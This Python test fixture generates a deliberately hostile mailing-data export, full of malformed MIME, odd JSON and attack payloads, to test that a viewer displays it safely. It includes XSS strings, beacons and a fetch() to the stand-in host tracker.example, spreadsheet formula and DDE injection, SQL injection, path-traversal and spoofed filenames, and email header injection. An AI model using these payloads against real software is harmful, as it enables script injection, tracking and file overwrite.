"""An export that attacks the program that displays it, with unusual JSON.

Its URLs lead to `tracker.example`: a program that displays this export must not request any of them.
"""

from __future__ import annotations

import base64
from typing import Any

from . import mime
from .pictures import PIXEL
from .writing import info, php

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><image href="http://tracker.example/svg"/>'
    '<foreignObject><iframe src="http://tracker.example/f"></iframe></foreignObject><use href="http://tracker.example/u#x"/></svg>'
)
ATTACKS = (
    "<script>fetch('http://tracker.example/script')</script>",
    "<img src=x onerror=\"location='http://tracker.example/onerror'\">",
    '"><script src=//tracker.example/x.js></script>',
    "</textarea></title></style><h1>Broken out</h1>",
    '<a href="javascript:alert(document.domain)">click</a>',
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    '=HYPERLINK("http://tracker.example/cell","sum")',
    "+cmd|' /C calc'!A0",
    "'; DROP TABLE messages; --",
    "../../../../etc/passwd",
    "%s%n%x {0.__class__}",
    "\u202egnp.exe\u202c \u2066\u200b\ufeff invisible",
)
PAGE = f"""<html><head><title></title><base href="http://tracker.example/base/">
<meta http-equiv="refresh" content="0;url=http://tracker.example/refresh">
<link rel="stylesheet" href="http://tracker.example/link.css"><link rel="preload" as="image" href="http://tracker.example/preload">
<style>@import url("http://tracker.example/import.css"); @import 'http://tracker.example/import2.css';
@font-face{{font-family:x;src:url(http://tracker.example/font.woff)}} body{{background:url(http://tracker.example/body.png)}}
p{{background-image:\\75\\72\\6c(http://tracker.example/escape.png)}} li{{list-style:url(//tracker.example/list.png)}}
div{{content:url("http://tracker.example/content.png");cursor:url(http://tracker.example/cursor.cur),auto}}
td{{width:expression(alert(1));behavior:url(http://tracker.example/htc);-moz-binding:url(http://tracker.example/xbl)}}
h1{{background:image-set("http://tracker.example/set.png" 1x);mask:url(http://tracker.example/mask.svg#m)}}
*{{--v:url(http://tracker.example/var.png);border-image:var(--v)}} @media all{{a{{background:URL( 'http://tracker.example/media.png' )}}}}
</style></head><body background="http://tracker.example/background.png" onload="alert('body')">
<script>document.write('<img src="http://tracker.example/written">')</script><noscript><img src="http://tracker.example/noscript"></noscript>
<p style="background:url('http://tracker.example/inline.png')">The offer of your life.</p>
<p style="background:u\\rl(http://tracker.example/backslash.png);position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">cover</p>
<img src="http://tracker.example/src.gif" srcset="http://tracker.example/2x.gif 2x" alt="&lt;script&gt;" width="1" height="1">
<picture><source srcset="http://tracker.example/source.webp"><img src="cid:missing@tracker.example" lowsrc="http://tracker.example/low"></picture>
<table background="http://tracker.example/table.png"><tr><td background=http://tracker.example/td.png>cell</td></tr></table>
<video poster="http://tracker.example/poster.png" autoplay><source src="http://tracker.example/v.mp4"></video><audio src="http://tracker.example/a.ogg">
</audio><object data="http://tracker.example/o.swf"></object><embed src="http://tracker.example/e.swf"><iframe src="http://tracker.example/iframe"
srcdoc="<script>alert(1)</script>"></iframe><form action="http://tracker.example/form"><input name=password type=image src="http://tracker.example/i">
<button formaction="javascript:alert(1)">Log in</button></form><math href="javascript:alert(1)">m<mglyph src="http://tracker.example/mglyph"/></math>
{SVG}<a href="java&#10;script:alert(1)">one</a> <a href="&#x6A;avascript:alert(1)">two</a> <a href=" data:text/html,<script>alert(1)</script>">three</a>
<a href="vbscript:msgbox(1)" ping="http://tracker.example/ping">four</a> <a href="https://bank.example@tracker.example/">bank.example</a>
<a href="file:///etc/passwd">five</a> <a href="http://tracker.example/?u={{$profile.secret}}" onclick="steal()">http://bank.example/</a>
<img src="data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()}"><div><div><b><table><i></div></table>unclosed <!-- comment
<p style="color:red;;;background:url(http://tracker.example/x.png" title='"><img src=http://tracker.example/title>'>never closed
<plaintext><![CDATA[ <img src="http://tracker.example/cdata"> ]]>
"""
NAMES = (
    "../../../../tmp/owned.txt", "..\\..\\windows\\system32\\owned.dll", "/etc/cron.d/owned", "CON.txt", "nul", "invoice\u202efdp.exe",
    "a" * 300 + ".txt", ".htaccess", "name\r\nX-Injected: yes.txt", "<img src=x onerror=alert(1)>.html", "", ".", "~/.ssh/authorized_keys",
    "C:evil.txt:stream", "emoji😈\u0000.png", "same.txt", "SAME.TXT", "same.txt",
)  # fmt: skip


def _messages() -> list[str]:
    head = 'From: "Mallory" <mallory@tracker.example>\r\nTo: victim@example.org\r\nDate: Fri, 01 Mar 2024 12:00:00 +0100\r\n'
    page = mime.text_part(PAGE, "html", encoding="8bit")
    attached = [
        mime.Part(
            (
                ("Content-Type", "application/octet-stream"),
                ("Content-Transfer-Encoding", "base64"),
                ("Content-Disposition", f'attachment; filename="{name}"'),
            ),
            base64.encodebytes(f"attachment {index}".encode()).decode(),
        )
        for index, name in enumerate(NAMES)
    ]
    attached.append(mime.file_part(SVG.encode(), "image/svg+xml", "picture.svg", "svg@tracker.example"))
    attached.append(mime.file_part(b"<script>alert(1)</script>", "text/html", "page.png"))
    attached.append(mime.file_part(PIXEL[:20], "image/gif", "broken.gif", "broken@tracker.example"))
    whole = mime.multipart("mixed", [page, *attached], "=_hostile")
    nested = mime.text_part("The innermost text.\n", encoding="7bit")
    for depth in range(60):
        nested = mime.multipart("mixed", [nested], f"=_{depth}")
    forwarded = mime.text_part("Forwarded thirty times.\n", encoding="7bit")
    for depth in range(30):
        inner = mime.written((("Subject", f"Fwd {depth}"), *forwarded.fields), forwarded.body)
        forwarded = mime.Part((("Content-Type", "message/rfc822"),), inner)
    return [
        head + f"Subject: {ATTACKS[0]}\r\nX-Long: {'x' * 5000}\r\nMIME-Version: 1.0\r\n" + written_with_crlf(whole),
        head + "Subject: =?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= =?utf-8?Q?=0D=0ABcc:_all@tracker.example?=\r\n"
        "Subject: a second subject\r\nContent-Type: text/html; charset=no-such-charset\r\n"
        "Content-Transfer-Encoding: no-such-encoding\r\n\r\n" + PAGE,
        head + "Subject: nested sixty deep\r\nMIME-Version: 1.0\r\n" + written_with_crlf(nested),
        head + "Subject: forwarded thirty times\r\nMIME-Version: 1.0\r\n" + written_with_crlf(forwarded),
        head + "Subject: no boundary\r\nContent-Type: multipart/mixed\r\n\r\n--nothing\r\n\r\ntext\r\n",
        head + "Subject: never ended\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + ATTACKS[1],
        head + "Subject: bad base64\r\nContent-Transfer-Encoding: base64\r\nContent-Type: text/plain\r\n\r\n!!!!====QUJD=\u00ff\r\nRA\r\n",
        head + "Subject: utf-7\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n",
        head + "Subject: many parts\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n" + "--m\r\n\r\nx\r\n" * 500 + "--m--\r\n",
        "no header at all, only text",
        "",
        "Subject: only a header",
        "\r\n\r\n<b>only a body</b>",
        "Subject: nul \x00 and \x07 bell\r\n: no name\r\nBroken line\r\n folded: onto nothing\r\n\r\n\x1b[31mred\x1b[0m",
    ]  # fmt: skip


def written_with_crlf(part: mime.Part) -> str:
    """The text of a part with CRLF, for the end of a message."""
    return mime.written(part.fields, part.body).replace("\r\n", "\n").replace("\n", "\r\n")


def _records() -> list[Any]:
    person = {"profile": "66600", "subprofile": "66613"}
    numbered = {f"Field {index} {attack[:30]}": attack for index, attack in enumerate(ATTACKS)}
    items: list[Any] = [
        {"type": "profile", "data": {"ID": "66600", "fields": numbered, "interests": list(ATTACKS), "database": "666",
                                     "secret": "deadbeefdeadbeefdeadbeefdeadbeef", "created": "not a date",
                                     "modified": "2024-02-30 25:61:61", "removed": "9999-12-31 23:59:59"}},
        {"type": "subprofile", "data": {"ID": "66613", "fields": {"Name": ATTACKS[2]}, "profile": "66600", "collection": "6",
                                        "secret": ATTACKS[0], "created": "0000-00-01", "modified": "", "removed": False}},
    ]  # fmt: skip
    for index, text in enumerate(_messages()):
        items.append(
            {"type": "message", "data": {"ID": f"{index:032x}", "internal": str(900 + index), "timestampsent": "2024-03-01 12:00:00",
                                         **person, "mailing": "13", "mime": text}}
        )  # fmt: skip
    for index, attack in enumerate(ATTACKS):
        common = {
            "emailing": "13",
            "destination": str(900 + index),
            **person,
            "timestamp": "2024-03-01 13:00:00",
        }
        items += [
            {"type": "click", "data": {"ID": str(index), "link_id": "1", "link": attack, "link_title": attack, "ip": attack,
                                       "useragent": attack, "referer": "javascript:alert(1)", **common}},
            {"type": "open", "data": {"ID": str(100 + index), "ip": "999.1.1.1", "useragent": attack, "device": attack, **common}},
            {"type": "error", "data": {"ID": str(200 + index), "errorcode": attack, "description": attack, "errortype": attack, **common}},
        ]  # fmt: skip
    items += [
        {"type": "survey", "data": {"survey": ATTACKS[0], "questions": {"1": {"question": ATTACKS[1], "type": "open", "answer": ATTACKS[2]},
         "2": {"question": ATTACKS[3], "type": "multi", "answer": list(ATTACKS)},
         "3": {"question": ATTACKS[4], "type": "grid", "answer": {ATTACKS[0]: ATTACKS[1], "": None}}}}},
        {"type": "webform", "data": {"webform": ATTACKS[1], "fields": {ATTACKS[0]: ATTACKS[1], "password": "hunter2"}, "submitter": []}},
        {"type": "file", "data": {"ID": "1", "name": NAMES[0], "directory": "../../..", "author": ATTACKS[0], "size": -1}},
        {"type": "abuse", "data": {"ID": "1", "report": {"a": ATTACKS[0], "": [[], {}, None]}, "destination": "900", **person}},
        {"name": "javascript:alert(1)", "links": ["mailto:a@example.org?bcc=b@tracker.example", "tel:+000", "HTTP://TRACKER.EXAMPLE/"]},
        {"type": {"not": "a text"}, "event": ["neither"], "data": 7},
        [["id", "time"], [1], [], [None, True, "row of another length"]],
        None, True, False, "", "a bare text", "<b>bare markup</b>", 0, [], {}, [[]], [{}],
    ]  # fmt: skip
    return items


ODD_JSON = (
    r'{"type":"note","type":"second","text":"repeated names","text":"another","text":{"text":"third"}}',
    r'{"numbers":[12345678901234567890123456789,-0,-0.0,1E400,1e-400,0.10,1.000000000000000000001,1E3,2.50E+07,9007199254740993]}',
    r'{"surrogates":"lone \ud83d high, low \ude00, swapped \ude00\ud83d, whole \ud83d\ude00","\udc00":"a lone surrogate as a name"}',
    r'{"controls":"\u0000 \u0001 \u0008 \u000b \u001b \u007f \u0085 \u009f \u2028 \u2029 \ufffe \uffff","\u0000":"NUL as a name"}',
    '{"":"an empty name","":"twice"," ":"a blank","a/b~c":"a pointer\'s signs","~1":"escaped already","0":"a number","-":"a dash"}',
    '{"' + "k" * 20000 + '":"a very long name"}',
    '{"long":"' + "w" * 60000 + '"}',
    '{"ID":"1","id":"2","Id":"3","iD":"4","__proto__":{"x":1},"constructor":"c","info":{"type":"email"},"data":[{"data":[]}]}',
    '{"deep":' + "[" * 100 + '"bottom"' + "]" * 100 + "}",
    '{"deep":' + '{"d":' * 100 + "null" + "}" * 100 + "}",
    '{"mime":null}',
    '{"mime":false,"ID":"x"}',
    '{"mime":["a","list"],"html":{"an":"object"},"subject":7}',
    '{"type":"click","data":"a text in place of a record"}',
    '{"type":"open","data":[{"ID":"1"},{"ID":"2"},"three"]}',
)
"""Items as raw JSON text, which an encoder would not produce."""


def export() -> str:
    """The hostile export."""
    lines = ",\n".join([*(php(item) for item in _records()), *ODD_JSON])
    return f'{{"info":{php(info("subprofile", "66613"))},"data":[\n{lines}\n],"extra":{{"beside":"<script>alert(1)</script>"}}}}\n'
